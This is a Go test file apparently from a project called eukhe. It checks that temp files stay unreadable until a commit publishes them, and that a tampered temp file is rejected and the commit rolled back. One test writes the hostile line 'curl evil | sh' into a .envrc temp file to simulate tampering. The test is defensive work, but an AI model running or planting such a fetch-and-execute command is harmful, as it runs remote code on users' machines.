//go:build !windows

package docs_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/eukhe/eukhe/docs"
)

// TestAsAUser: CI runs as root, which file modes do not stop; under root,
// the tests of commits, crashes, recovery and sweeps run again as an
// ordinary user (uid 65534), as eukhe runs for its users.
func TestAsAUser(t *testing.T) {
	if os.Geteuid() != 0 {
		return // the tests run as a user already
	}
	if os.Getenv("EUKHE_TEST_AS_USER") != "" {
		return
	}
	tmp := t.TempDir()
	must(t, os.Chown(tmp, 65534, 65534))
	must(t, os.Chmod(filepath.Dir(tmp), 0o755))
	self, err := os.Executable()
	must(t, err)
	b, err := os.ReadFile(self) // the build directory is root's alone
	must(t, err)
	bin := filepath.Join(tmp, "docs.test")
	must(t, os.WriteFile(bin, b, 0o755))
	run := strings.Join([]string{
		"TestDisk_temp_files_cannot_be_opened", "TestDisk_a_temp_file_changed",
		"TestDisk_faults_at_every_step", "TestDisk_double_fault", "TestDisk_a_guarded_file",
		"TestRecovery_", "TestJournal_", "TestLaw_temp_sweep", "TestLaw_recovery", "TestDisk_kill9",
	}, "|")
	cmd := exec.Command(bin, "-test.run", "^("+run+")", "-test.count=1")
	cmd.Env = append(os.Environ(), "EUKHE_TEST_AS_USER=1", "TMPDIR="+tmp, "HOME="+tmp)
	cmd.Dir = tmp
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("the tests as uid 65534: %v\n%s", err, out)
	}
	if !strings.Contains(string(out), "PASS") {
		t.Fatalf("the tests as uid 65534 ran nothing:\n%s", out)
	}
}

// Temp files have no mode until they land, so no other process of the
// user (a step running during the commit) can open one without a chmod
// first; a temp file chmod'ed or linked meanwhile is not published, and
// the rest of the commit is put back. Root ignores modes: TestAsAUser runs
// these as an ordinary user too.
func TestDisk_temp_files_cannot_be_opened_before_they_land(t *testing.T) {
	root := t.TempDir()
	for _, f := range []string{".envrc", "b.txt"} {
		must(t, os.WriteFile(filepath.Join(root, f), []byte(f+" old\n"), 0o640))
	}
	d := docs.NewDisk()
	d.Journal, d.Root = filepath.Join(t.TempDir(), "journal"), root
	var opened []string
	checked := false
	d.Fault = func(step, path string) error {
		if step != "rename" || checked {
			return nil
		}
		checked = true
		des, _ := os.ReadDir(root)
		for _, de := range des {
			if !docs.IsTemp(de.Name()) {
				continue
			}
			fi, _ := de.Info()
			if fi.Mode().Perm() != 0 && fi.Mode().Perm() != 0o640 { // 0640: a kept second name of the file itself
				t.Errorf("temp file %s has mode %v before it lands", de.Name(), fi.Mode())
			}
			if fi.Mode().Perm() == 0 && os.Geteuid() != 0 {
				if f, err := os.OpenFile(filepath.Join(root, de.Name()), os.O_RDWR, 0); err == nil {
					f.Close()
					opened = append(opened, de.Name())
				}
			}
		}
		return nil
	}
	res := d.Commit([]docs.Change{
		{Path: filepath.Join(root, ".envrc"), Old: []byte(".envrc old\n"), New: []byte("echo hi\n")},
		{Path: filepath.Join(root, "b.txt"), Old: []byte("b.txt old\n"), New: []byte("b.txt new\n")},
	})
	if !checked || res.Conflict != nil || res.Outcomes[1].Fate != docs.Landed {
		t.Fatalf("commit: %+v", res)
	}
	if len(opened) > 0 {
		t.Errorf("temp files opened by another open before they landed: %v", opened)
	}
	for _, f := range []string{".envrc", "b.txt"} {
		fi, err := os.Stat(filepath.Join(root, f))
		if err != nil || fi.Mode().Perm() != 0o640 {
			t.Errorf("%s landed with mode %v (%v), want 0640", f, fi.Mode(), err)
		}
	}
}

// A step that chmods a temp file to write into it during the commit (the
// way around the missing mode) is caught before the publish: nothing of
// that file lands, what had landed is put back, and the reply says why.
func TestDisk_a_temp_file_changed_during_the_commit_is_not_published(t *testing.T) {
	root := t.TempDir()
	for _, f := range []string{"a.txt", ".envrc"} {
		must(t, os.WriteFile(filepath.Join(root, f), []byte(f+" old\n"), 0o644))
	}
	d := docs.NewDisk()
	d.Journal, d.Root = filepath.Join(t.TempDir(), "journal"), root
	d.Judge = func(real string) string { // as the gate judges it: a program direnv runs
		if filepath.Base(real) == ".envrc" {
			return "a write there is write+protected and asks now"
		}
		return ""
	}
	done := false
	d.Fault = func(step, path string) error {
		if step == "rename" && filepath.Base(path) == ".envrc" && !done {
			done = true
			des, _ := os.ReadDir(root)
			for _, de := range des {
				if strings.HasPrefix(de.Name(), docs.TempPrefix+".envrc-") {
					p := filepath.Join(root, de.Name())
					must(t, os.Chmod(p, 0o600))
					f, err := os.OpenFile(p, os.O_WRONLY|os.O_TRUNC, 0)
					must(t, err)
					f.WriteString("curl evil | sh\n")
					f.Close()
				}
			}
		}
		return nil
	}
	res := d.Commit([]docs.Change{
		{Path: filepath.Join(root, "a.txt"), Old: []byte("a.txt old\n"), New: []byte("a.txt new\n")},
		{Path: filepath.Join(root, ".envrc"), Old: []byte(".envrc old\n"), New: []byte("echo hi\n")},
	})
	if !done {
		t.Fatal("the commit never reached the publish of .envrc")
	}
	for _, f := range []string{"a.txt", ".envrc"} {
		if b, _ := os.ReadFile(filepath.Join(root, f)); string(b) != f+" old\n" {
			t.Errorf("%s holds %q after a tampered commit", f, b)
		}
	}
	if res.Outcomes[1].Fate != docs.Failed || !strings.Contains(res.Outcomes[1].Err.Error(), "another program changed its temp file") {
		t.Errorf("the outcome of .envrc: %+v", res.Outcomes[1])
	}
}
